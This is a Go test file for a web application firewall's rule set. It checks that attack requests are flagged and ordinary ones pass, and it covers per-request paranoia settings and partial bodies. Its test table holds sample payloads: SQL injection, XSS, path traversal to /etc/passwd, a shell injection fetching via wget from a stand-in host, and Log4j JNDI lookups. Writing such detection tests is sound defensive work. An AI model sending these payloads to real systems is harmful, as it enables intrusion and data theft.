package firewall

import (
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/fairlead/fairlead/router/model"
)

// compiled is the rule set, which all tests share: it takes a third of a second.
var compiled = sync.OnceValues(Compile)

func rulesOf(t testing.TB) *Rules {
	t.Helper()
	r, err := compiled()
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func get(target string, headers ...Header) *Request {
	return &Request{Method: "GET", Target: target, Version: "1.1", Client: "192.0.2.1", Headers: append([]Header{
		{"Host", "shop.example.com"}, {"User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"}, {"Accept", "text/html"},
	}, headers...)}
}

func post(contentType, body string) *Request {
	q := get("/login", Header{"Content-Type", contentType}, Header{"Content-Length", "1"})
	q.Method, q.Body = "POST", []byte(body)
	return q
}

const form = "application/x-www-form-urlencoded"

// TestKnownAttacks: attacks of each kind are found at paranoia 1, wherever they stand, and
// ordinary requests are not.
func TestKnownAttacks(t *testing.T) {
	t.Parallel()
	rules := rulesOf(t)
	usual := model.FirewallRules{Block: true, Paranoia: 1, Threshold: 5}
	for name, tt := range map[string]struct {
		request *Request
		attack  bool
	}{
		"SQL in the query":        {get("/?id=1%27%20or%20%271%27=%271"), true},
		"SQL with a union":        {get("/?id=1+union+select+password+from+users--"), true},
		"SQL in a form":           {post(form, "user=a'+or+1=1--&password=b"), true},
		"SQL in JSON":             {post("application/json", `{"user":"a' or 1=1--"}`), true},
		"SQL in a cookie":         {get("/", Header{"Cookie", "a=1' or '1'='1"}), true},
		"a script in the query":   {get("/?q=<script>alert(1)</script>"), true},
		"a script, encoded":       {get("/?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"), true},
		"a script in a form":      {post(form, "q=%3Cscript%3Ealert(1)%3C/script%3E"), true},
		"a script in a header":    {get("/", Header{"Referer", "https://a.test/?<script>alert(1)</script>"}), true},
		"traversal in the query":  {get("/?file=../../../../etc/passwd"), true},
		"traversal in the path":   {get("/a/%2e%2e/%2e%2e/etc/passwd"), true},
		"a shell in the query":    {get("/?c=;cat%20/etc/passwd"), true},
		"a shell in a form":       {post(form, "c=$(wget+http://a.test/x)"), true},
		"a look-up in a header":   {get("/", Header{"X-Api-Version", "${jndi:ldap://a.test/x}"}), true},
		"a scanner":               {get("/", Header{"User-Agent", "sqlmap/1.7"}), true},
		"a look-up of Log4j":      {get("/?q=${jndi:ldap://a.test/x}"), true},
		"a page":                  {get("/shop/cart?item=17&color=red"), false},
		"a text with punctuation": {get("/search?q=what%27s+new%3F+a+%26+b"), false},
		"a form":                  {post(form, "user=ann&password=Tr0ub4dor%263&remember=on"), false},
		"JSON":                    {post("application/json", `{"name":"O'Brien","tags":["a","b"],"n":1.5}`), false},
		"a session":               {get("/", Header{"Cookie", "session=eyJhbGciOiJIUzI1NiJ9.e30.abc; theme=dark"}), false},
		"a change by PUT":         {&Request{Method: "PUT", Target: "/items/1", Version: "1.1", Client: "2001:db8::1", Headers: get("/").Headers}, false},
	} {
		v, err := rules.Judge(tt.request, usual)
		if err != nil || v.Attack != tt.attack || tt.attack && len(v.Rules) == 0 {
			t.Errorf("%s: %+v, %v", name, v, err)
		}
	}
}

// TestSettingsPerRequest: one compiled rule set judges by the paranoia, the threshold and
// without the rules that each request names, and by nothing of the request before.
func TestSettingsPerRequest(t *testing.T) {
	t.Parallel()
	rules := rulesOf(t)
	attack := get("/?id=1%27%20or%20%271%27=%271")
	for range 2 {
		for _, tt := range []struct {
			by     model.FirewallRules
			attack bool
		}{
			{model.FirewallRules{Paranoia: 1, Threshold: 5}, true},
			{model.FirewallRules{Paranoia: 1, Threshold: 6}, false},
			{model.FirewallRules{Paranoia: 2, Threshold: 6}, true},
			{model.FirewallRules{Paranoia: 1, Threshold: 5, Without: []int{942100}}, false},
			{model.FirewallRules{Paranoia: 2, Threshold: 5, Without: []int{942100}}, true},
		} {
			v, err := rules.Judge(attack, tt.by)
			if err != nil || v.Attack != tt.attack {
				t.Errorf("%+v: %+v, %v", tt.by, v, err)
			}
			if slices.Contains(v.Rules, 942100) == slices.Contains(tt.by.Without, 942100) {
				t.Errorf("%+v: rules %v", tt.by, v.Rules)
			}
		}
	}
}

// TestPartialBody: the first part of a body is judged, and that it ends too early is no
// attack; a whole body that cannot be read is one.
func TestPartialBody(t *testing.T) {
	t.Parallel()
	rules := rulesOf(t)
	by := model.FirewallRules{Block: true, Paranoia: 1, Threshold: 5}
	half := post("application/json", `{"name":"a","more":[1,2`)
	whole, err := rules.Judge(half, by)
	if err != nil || !whole.Attack {
		t.Errorf("half a body as a whole one: %+v, %v", whole, err)
	}
	half.Partial = true
	if v, err := rules.Judge(half, by); err != nil || v.Attack {
		t.Errorf("the first part of a body: %+v, %v", v, err)
	}
	bad := post(form, "q=<script>alert(1)</script>&more="+strings.Repeat("a", 1000))
	bad.Partial = true
	if v, err := rules.Judge(bad, by); err != nil || !v.Attack {
		t.Errorf("an attack in the first part: %+v, %v", v, err)
	}
}
